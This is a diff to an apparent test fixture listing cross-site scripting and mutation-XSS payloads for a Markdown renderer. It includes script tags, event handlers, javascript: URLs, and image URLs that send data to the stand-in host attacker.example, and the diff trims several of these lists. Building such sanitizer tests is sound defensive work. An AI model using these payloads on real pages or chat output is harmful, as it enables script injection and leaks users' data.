@@ -1,4 +1,4 @@
-// Markdown that tries to run a script, fetch something or lead to another place, by kind. Each script calls pwn().
+// Markdown that tries to run a script, fetch something or navigate, by kind. Each script calls pwn().
 
 const HOST = 'https://attacker.example'
 
@@ -6,44 +6,30 @@ const HOST = 'https://attacker.example'
 const elements = [
   '<script>pwn()</script>',
   `<script src="${HOST}/a.js"></script>`,
-  '<script type="module">pwn()</script>',
   '<scr<script>ipt>pwn()</scr</script>ipt>',
   '<img src="x" onerror="pwn()" alt="soup">',
-  '<img/src/onerror=pwn()>',
-  '<image href=x onerror=pwn()>',
   `<img srcset="${HOST}/a.png 2x">`,
   '<svg onload=pwn()></svg>',
-  '<svg><script>pwn()</script></svg>',
   '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
   '<svg><a xlink:href="javascript:pwn()"><text y=20>soup</text></a></svg>',
   `<svg><use href="${HOST}/a.svg#b"></use></svg>`,
-  `<svg><foreignObject><iframe src="${HOST}"></iframe></foreignObject></svg>`,
   '<math href="javascript:pwn()">soup</math>',
   `<iframe src="${HOST}"></iframe>`,
-  '<iframe src="javascript:pwn()"></iframe>',
   '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
   `<object data="${HOST}/a.swf"></object>`,
-  '<object data="javascript:pwn()"></object>',
-  `<embed src="${HOST}/a.svg">`,
   `<base href="${HOST}/">`,
   `<meta http-equiv="refresh" content="0;url=${HOST}">`,
   `<link rel="stylesheet" href="${HOST}/a.css">`,
   `<style>@import "${HOST}/a.css"; body { display: none }</style>`,
-  `<style>li:first-child { background: url(${HOST}/c) }</style>`,
   `<p style="background: url(${HOST}/d)">soup</p>`,
   `<form action="${HOST}"><button>Suggest a recipe</button></form>`,
   `<button formaction="javascript:pwn()">soup</button>`,
   '<input autofocus onfocus=pwn()>',
   '<details open ontoggle=pwn()>soup</details>',
-  '<video><source onerror=pwn()></video>',
   `<video poster="${HOST}/e.png"></video>`,
-  `<audio src="${HOST}/f.mp3" onerror=pwn() autoplay></audio>`,
   '<div onmouseover="pwn()" onclick="pwn()">soup</div>',
   '<a href="javascript:pwn()">soup</a>',
   '<a href="#" onclick="pwn()">soup</a>',
-  '<template><img src=x onerror=pwn()></template>',
-  '<dialog open onclose=pwn()><form method=dialog><button autofocus>soup</button></form></dialog>',
-  '<x contenteditable onblur=pwn()>soup</x>',
   '<div id="root">soup</div><div name="getElementById">soup</div>',
 ]
 
@@ -53,12 +39,10 @@ const mutations = [
   '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
   '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
   '<!--><img src=x onerror=pwn()>-->',
-  '<!-- --!><img src=x onerror=pwn()>',
   '<![CDATA[><img src=x onerror=pwn()>]]>',
   '<?xml ><img src=x onerror=pwn()>?>',
   '<!ENTITY a "<img src=x onerror=pwn()>">',
   '<textarea><img title="</textarea><img src=x onerror=pwn()>"></textarea>',
-  '<title><img title="</title><img src=x onerror=pwn()>"></title>',
   '<a href="x"<img src=x onerror=pwn()>>',
   '`<img src=x onerror=pwn()>\n\n<img src=x onerror=pwn()>`',
   '**<img src=x onerror=**pwn()>',
@@ -67,7 +51,6 @@ const mutations = [
   '- <script>\n  pwn()\n  </script>',
   '| a |\n| - |\n| <img src=x onerror=pwn()> |',
   '# <img src=x onerror=pwn()>',
-  '~~<svg onload=pwn()>~~',
   '<p>\n\n**soup**\n\n<script>pwn()</script>\n\n</p>',
 ]
 
@@ -85,14 +68,12 @@ const schemes = [
   'blob:http://a.example/b',
   'file:///etc/passwd',
   'about:blank',
-  'ws://attacker.example',
   'intent://a#Intent;scheme=http;end',
   '//attacker.example/a',
   '/\\attacker.example/a',
   '/v1/chat/completions',
   '?a=b',
   '#top',
-  'recipe.html',
   'http:a',
   'https:/v1/chat/completions',
   '',
@@ -106,7 +87,7 @@ const addresses = schemes.flatMap((url) => [
   ...(/^[a-z]+:/i.test(url) && !/[\s<]/.test(url) ? [`<${url}>`] : []),
 ])
 
-/** Images whose address carries data to a server. */
+/** Images whose URL carries data to a server. */
 const pictures = [
   `![soup](${HOST}/a.png?list=egg)`,
   `![soup](http://attacker.example/b.png)`,
@@ -118,7 +99,6 @@ const pictures = [
   `![![soup](${HOST}/j.png)](${HOST}/k.png)`,
   `| ![soup](${HOST}/l.png) |\n| - |`,
   `[^1]\n\n[^1]: ![soup](${HOST}/n.png)`,
-  `![soup](ftp://attacker.example/o.png)`,
   `![soup](${HOST}/p.png){onerror=pwn()}`,
 ]
 
